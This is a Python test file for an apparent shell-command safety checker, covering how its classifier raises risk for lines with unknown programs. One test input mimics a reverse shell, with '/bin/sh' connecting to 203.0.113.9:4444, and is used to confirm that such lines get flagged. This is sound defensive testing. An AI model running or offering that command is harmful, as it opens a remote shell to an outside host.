"""The embedded second opinion: where it is heard, where it must not be, and that it never lowers anything."""

from __future__ import annotations

import json
import math
import subprocess
import sys
from array import array
from importlib import resources

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellguard import judgement
from shellguard.classifier.features import features
from shellguard.classifier.model import BUCKETS, Classifier, bucket_of, packaged
from shellguard.classifier.opinion import (
    RULE,
    SCORE,
    Opinion,
    in_two_minds,
    opinion,
    parts_unknown,
    raised,
)
from shellguard.effects.derive import effects_of
from shellguard.effects.packs.packs import packaged as packs
from shellguard.effects.rules import all_rules
from shellguard.judgement import blind_spots
from shellguard.parsing.reading import read
from shellguard.parsing.shell_state import NOTHING_KNOWN, ShellState
from shellguard.policy.decision import Action, Challenge
from shellguard.risk.finding import Risk
from shellguard.settings.model import Settings
from shellguard.verdict import Verdict

SURE = Opinion(0.99, ("socket",))


def verdict(line: str, shell: ShellState = NOTHING_KNOWN, **policy: object) -> Verdict:
    return judgement.judge(
        line, shell=shell, settings=Settings.model_validate({"policy": policy}), look=False
    )


@pytest.mark.parametrize(
    "line",
    [
        "gti status",
        "ll",
        "deploy staging",
        "nx run-many --target=build --all",
        "backup.sh /mnt/backup",
        "./manage.py migrate",
        "cleanup-tmp 3",
        "k get pods -n dev",
        "sbatch job.sh",
        "mlr --icsv --ojson cat data.csv",
        "hyperfine './a.out' './b.out'",
        "idf.py build flash monitor",
    ],
)
def test_an_unknown_program_alone_is_no_question(line: str) -> None:
    assert verdict(line).decision.action is Action.ALLOW


@pytest.mark.parametrize(
    ("risk", "found", "unknown"),
    [
        (Risk(10), SURE, ()),
        (Risk(10), Opinion(0.1), ("frob",)),
        (Risk(SCORE), SURE, ("frob",)),
        (Risk(97), SURE, ("frob",)),
    ],
    ids=["all programs are known", "not sure", "asked about anyway", "denied anyway"],
)
def test_it_is_not_heard(risk: Risk, found: Opinion, unknown: tuple[str, ...]) -> None:
    assert raised(risk, found, packaged(), unknown) is risk


@pytest.mark.parametrize(
    "line",
    [
        "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
        "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
        "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc",
        "frob --list; kill -HUP 4711",
        "frob | sudo tee /etc/frob.conf",
    ],
)
def test_what_is_understood_speaks_not_against_what_stands_beside_it(line: str) -> None:
    assert verdict(line).source != "classifier"


def test_the_unknown_part_stands_in_its_pipeline() -> None:
    script = read("ls; sudo frob -x 'a b' | sort && (cat f | grob)")
    assert set(parts_unknown(script, ("frob", "grob"))) == {"frob -x 'a b'", "cat f | grob"}


def test_heard_it_asks_by_key_and_says_what_is_not_known() -> None:
    risk = raised(Risk(10), SURE, packaged(), ("frob",))
    assert risk.score == SCORE
    assert risk.findings[0].id == RULE
    assert "what frob does is not known" in risk.reasoning
    assert "socket" in risk.reasoning


def test_heard_of_a_line_that_was_not_read_in_full_it_says_so() -> None:
    risk = raised(Risk(10), SURE, packaged(), (), unread=True)
    assert (risk.score, risk.findings[0].id) == (SCORE, RULE)
    assert "can't be read in full" in risk.reasoning
    assert raised(Risk(10), Opinion(0.1), packaged(), (), unread=True).score == 10
    assert raised(Risk(97), SURE, packaged(), (), unread=True).score == 97


@pytest.mark.parametrize("line", ["notes delete 7", "frobctl delete thing", "tmuxinator delete work"])
def test_a_telling_word_that_was_weighed_does_not_count_twice(
    line: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(blind_spots, "learned", lambda: Classifier(array("b", bytes(BUCKETS)), 1.0, 5.0, 0.9))
    assert verdict(line).source == "static"


@pytest.mark.parametrize(
    "line",
    ["echo 'it is late", "git commit -m 'fix", "if true; then", "ls (a)", "npm run build &&", "cat <<END"],
)
def test_a_slip_of_the_hand_alone_is_no_question(line: str) -> None:
    assert verdict(line).source != "classifier"


UNKNOWN_BUT_TELLING = "frobsh -e /bin/sh --connect 203.0.113.9:4444 --daemonize payload"


def test_a_line_that_nobody_understands_is_asked_about_for_what_it_resembles() -> None:
    without = verdict(UNKNOWN_BUT_TELLING, classifier=False)
    script = read(UNKNOWN_BUT_TELLING)
    sure = Classifier(array("b", bytes(BUCKETS)), 1.0, 5.0, 0.9)
    assert opinion(sure, script, effects_of(script)).probability > 0.99
    assert verdict(UNKNOWN_BUT_TELLING).risk.score >= without.risk.score


def test_the_source_of_a_verdict_says_when_it_was_the_classifier(monkeypatch: pytest.MonkeyPatch) -> None:
    sure = Classifier(array("b", bytes(BUCKETS)), 1.0, 5.0, 0.9)
    monkeypatch.setattr(blind_spots, "learned", lambda: sure)
    found = verdict("frobctl whatever")
    assert (found.source, found.decision.action, found.decision.challenge) == (
        "classifier",
        Action.CONFIRM,
        Challenge.KEY,
    )
    assert verdict("frobctl whatever", classifier=False).source == "static"
    assert verdict("ls -la").source == "static"


def test_in_two_minds_it_is_only_about_what_it_may_speak_of() -> None:
    def unclear(line: str, bias: float) -> bool:
        script = read(line)
        about = Classifier(array("b", bytes(BUCKETS)), 1.0, bias, 0.9)
        return in_two_minds(about, script, effects_of(script), packs().unknown_programs(script))

    assert unclear("frob --list", 0.5)
    assert unclear("echo 'it is late", 0.5)
    assert not unclear("frob --list", -0.5)
    assert not unclear("ls -la", 5.0), "it is understood"
    assert not unclear("frobctl uninstall it", 5.0), "its telling word was weighed"


def test_a_function_whose_text_is_known_is_no_unknown_program() -> None:
    shell = ShellState(functions={"frob": "frob () \n{ \n    ls -la\n}"})
    assert packs().unknown_programs(read("frob x", shell)) == ()
    assert packs().unknown_programs(read("frob x")) == ("frob",)


def test_its_rule_is_listed() -> None:
    assert {one.base for one in all_rules() if one.id == RULE} == {SCORE}


def test_the_card_belongs_to_the_weights_and_keeps_its_promises() -> None:
    card = json.loads(resources.files("shellguard.classifier").joinpath("card.json").read_text())
    assert len(packaged().weights) == BUCKETS <= 3_000_000
    assert 0.5 <= packaged().threshold < 1
    assert card["dev"]["with_rules"]["auc"] >= 0.985
    assert card["heard_on_dev"]["ordinary"]["added"] <= 2
    for told in card["heard_with_programs_left_out"].values():
        dangerous, ordinary = told["dangerous"], told["ordinary"]
        assert dangerous["added"] >= 0.09 * (dangerous["lines"] - dangerous["by_rules"])
        assert ordinary["added"] <= 0.01 * ordinary["lines"]
    assert card["limits"]


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_text_has_a_probability_and_the_same_each_time(text: str) -> None:
    script = read(text)
    seen = features(script, effects_of(script))
    probability = packaged().probability(seen)
    assert 0 <= probability <= 1
    assert not math.isnan(probability)
    assert seen == features(read(text), effects_of(script))


def test_buckets_are_the_same_in_every_process() -> None:
    code = "from shellguard.classifier.model import bucket_of; print(bucket_of('program:ls'))"
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert int(told) == bucket_of("program:ls")
